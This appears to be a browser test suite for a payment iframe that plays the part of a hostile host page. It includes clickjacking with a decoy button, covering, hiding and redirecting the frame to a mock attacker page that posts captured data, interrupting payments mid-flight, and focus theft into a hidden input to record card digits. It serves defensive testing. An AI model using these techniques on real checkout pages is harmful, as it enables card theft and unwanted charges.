// What a page can do to a frame from outside: make it small, cover it, move it, take it elsewhere or away, in the middle of typing and of a
// payment. Also what it gets, where no frame can help: keys that are pressed after it has taken the focus.
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { By, Origin } from 'selenium-webdriver';
import { heldBack } from './support/between.mjs';
import { BROWSERS, CARD, cardIn, MODES, RECORDER, report, withHostile } from './support/hostile.mjs';

const PAYMENTS = /\/v1\/payments$/;

for (const browser of BROWSERS) {
  describe(`in ${browser}`, () => {
    const hostile = withHostile({ browser });
    const frameScript = `const host = document.querySelector('payment-form'); const frame = host.querySelector('iframe');`;
    const inPage = script => hostile.ask(frameScript + script);
    const recorded = async () => cardIn(JSON.stringify(await hostile.ask('return got')));
    const made = () => hostile.payments().length;
    const told = () =>
      hostile.ask(
        `return told.filter(([name]) => name === 'error').map(([, { code, outcome }]) => code + ' ' + outcome)`,
      );
    const value = async (root, name) =>
      (await (await hostile.field(root, name)).getAttribute('value')).replace(/\s/g, '');

    test('the frame is made small, hidden, covered and moved while a card is typed', async () => {
      hostile.reset();
      const before = made();
      await hostile.open('frame', { attack: RECORDER });
      const ACTS = [
        `frame.style.width = frame.style.height = '0'`,
        `frame.style.cssText = ''; frame.style.opacity = '0.01'`,
        `host.style.display = 'none'`,
        `host.style.display = ''; host.style.transform = 'scale(0.01)'`,
        `host.style.transform = ''; frame.style.clipPath = 'inset(50%)'`,
        `frame.style.cssText = 'position: fixed; left: -9999px'`,
        `frame.style.cssText = 'position: absolute; inset: -4px; border: 0; width: 100%; height: 100%';
         window.cover = document.body.appendChild(document.createElement('div'));
         cover.style.cssText = 'position: fixed; inset: 0; background: white'`,
        `cover.remove(); frame.setAttribute('sandbox', 'allow-scripts'); frame.setAttribute('name', 'x'); frame.allow = 'none'`,
      ];
      const root = await hostile.form('frame');
      await hostile.type(root, { expiry: CARD.expiry, cvv: CARD.cvv, name: CARD.name });
      for (const [at, act] of ACTS.entries()) {
        await inPage(act);
        const inside = await hostile.inFrame();
        const piece = CARD.number.slice(at * 2, at * 2 + 2);
        // Into a frame that cannot be seen nobody types; the driver still can where it has a size.
        await (await hostile.field(inside, 'number')).sendKeys(piece).catch(async () => {
          await inPage(
            `host.style.cssText = ''; frame.style.cssText = 'position: absolute; inset: -4px; border: 0; width: 100%; height: 100%'`,
          );
          await (await hostile.field(await hostile.inFrame(), 'number')).sendKeys(piece);
        });
      }
      const inside = await hostile.inFrame();
      assert.equal(await value(inside, 'number'), CARD.number);
      assert.equal(await hostile.label(inside), 'Pay $19.90');
      await hostile.pay(inside);
      await hostile.paid(inside);
      assert.deepEqual(await recorded(), []);
      assert.deepEqual(await hostile.sentElsewhere(), []);
      assert.equal(made() - before, 1);
      report({ attack: 'makes the frame small, hides, covers and moves it', tries: ACTS.length, browser, frame: [] });
    });

    test('the frame is moved under the pointer: a press that began on the page pays nothing', async () => {
      hostile.reset();
      const before = made();
      await hostile.open('frame', {
        attack: RECORDER,
        body: `<button id="decoy" style="position: fixed; left: 300px; top: 300px; width: 200px; height: 60px">Win</button>`,
      });
      const root = await hostile.form('frame');
      await hostile.type(root);
      await inPage(`
        const button = document.getElementById('decoy');
        button.addEventListener('pointerdown', () => {
          frame.style.cssText = 'position: fixed; left: 0; top: -50px; width: 700px; height: 600px; border: 0; opacity: 0.01';
          button.remove();
        });`);
      const decoy = await hostile.driver.findElement(By.id('decoy'));
      await hostile.driver
        .actions()
        .move({ origin: Origin.VIEWPORT, x: 400, y: 330 })
        .press()
        .pause(300)
        .release()
        .perform();
      await hostile.driver.sleep(300);
      await assert.rejects(async () => decoy.getText(), 'the frame is there by now');
      assert.equal(made(), before);
      assert.deepEqual(await recorded(), []);
      report({ attack: 'moves the frame under a press', tries: 1, browser, frame: [] });

      // Where the frame is before the press, the press is in it; and the page can have the form pay without one.
      await hostile.ask(`void document.querySelector('payment-form').submit()`);
      await hostile.paid(await hostile.inFrame());
      const [payment] = hostile.payments().slice(before);
      assert.equal(payment.amount, 1990);
      report({
        attack: 'has the form pay what is typed, unasked',
        tries: 1,
        browser,
        frame: ['one payment of the amount that the form shows'],
        inline: ['the same'],
      });
    });

    test('the frame is taken to a page of the attacker and back in the middle of typing', async () => {
      hostile.reset();
      const before = made();
      const evil = await hostile.serve(
        () => `<!doctype html><script>
        var heard = [];
        addEventListener('message', event => heard.push([event.data, event.ports.length]));
        onload = () => fetch('/heard', { method: 'POST', body: document.referrer });
        setTimeout(() => fetch('/messages', { method: 'POST', body: JSON.stringify(heard) }), 500);
      </script>Card number <input>`,
      );
      await hostile.open('frame', { attack: RECORDER });
      await hostile.type(await hostile.form('frame'));
      await inPage(`frame.src = '${evil.origin}/'`);
      await hostile.until('what the attacker heard', async () =>
        hostile.heard.some(({ path }) => path === '/messages'),
      );
      const sent = hostile.heard.map(({ body }) => body).join('\n');
      assert.deepEqual(cardIn(sent), []);
      assert.match(sent, /^\[\]$/m, 'no handshake and no port reaches another origin');
      await inPage(`frame.src = '${hostile.frameUrl}'`);
      await hostile.driver.sleep(300);
      const root = await hostile.form('frame');
      assert.equal(await value(root, 'number'), '');
      assert.equal(await hostile.label(root), 'Pay $19.90');
      await hostile.type(root);
      await hostile.pay(root);
      await hostile.paid(root);
      assert.deepEqual(await recorded(), []);
      assert.equal(made() - before, 1);
      report({ attack: 'takes the frame elsewhere and back while a card is typed', tries: 2, browser, frame: [] });
    });

    /** What a page does to the frame of a payment in flight. */
    const IN_FLIGHT = {
      'loads it again': 'frame.src = frame.src',
      'takes it to another page': `frame.src = 'about:blank'`,
      'removes it': 'frame.remove()',
      'removes the form': 'host.remove()',
      'moves the form': 'document.body.append(host)',
    };
    for (const [what, act] of Object.entries(IN_FLIGHT)) {
      test(`in the middle of a payment the page ${what}: one charge at most, and the payer can try again`, async () => {
        hostile.reset();
        const before = made();
        // One order, one session.
        const secret = await hostile.session();
        await hostile.open('frame', { attack: RECORDER, options: `{ session: '${secret}' }` });
        const root = await hostile.form('frame');
        await hostile.type(root);
        const { act: hold, arrived, release } = heldBack();
        hostile.api.when('POST', PAYMENTS, hold);
        await hostile.pay(root);
        await arrived;
        await inPage(act);
        await hostile.driver.sleep(300);
        release();
        await hostile.driver.sleep(500);
        for (const error of await told()) assert.match(error, / unknown$/);
        assert.deepEqual(await recorded(), []);
        assert.equal(made() - before, 1);

        await hostile.open('frame', { options: `{ session: '${secret}' }` });
        const again = await hostile.form('frame').catch(() => null);
        if (again && (await again.findElements(By.css('.pw-state[data-kind="success"]'))).length === 0) {
          await hostile.type(again);
          await hostile.pay(again);
          await hostile.driver.sleep(1000);
        }
        const payments = hostile.payments().slice(before);
        assert.deepEqual(
          payments.map(({ amount, status }) => [amount, status]),
          [[1990, 'succeeded']],
        );
        report({ attack: `in the middle of a payment, ${what}`, tries: 1, browser, frame: [] });
      });
    }

    for (const mode of MODES) {
      test(`the page takes the focus away in the middle of a number, ${mode}: it gets what is typed after that`, async () => {
        hostile.reset();
        await hostile.open(mode, { attack: RECORDER, body: '<input id="thief" style="opacity: 0">' });
        const root = await hostile.form(mode);
        const number = await hostile.field(root, 'number');
        await number.click();
        const type = keys =>
          hostile.driver
            .actions()
            .sendKeys(...keys)
            .perform();
        await type(CARD.number.slice(0, 6));
        await hostile.ask(`document.getElementById('thief').focus()`);
        await type(CARD.number.slice(6));
        const stolen = await hostile.ask(`return document.getElementById('thief').value`);
        assert.equal(stolen, CARD.number.slice(6));
        const heard = JSON.stringify(await hostile.ask('return got'));
        const before = heard.includes('3782 82') || heard.includes('378282');
        assert.equal(before, mode === 'inline', 'what was typed before that');
        if (mode === 'frame') {
          const frame = ['the keys pressed after that'];
          report({ attack: 'takes the focus while the payer types', tries: 1, browser, frame, inline: ['all keys'] });
        }
      });
    }
  });
}
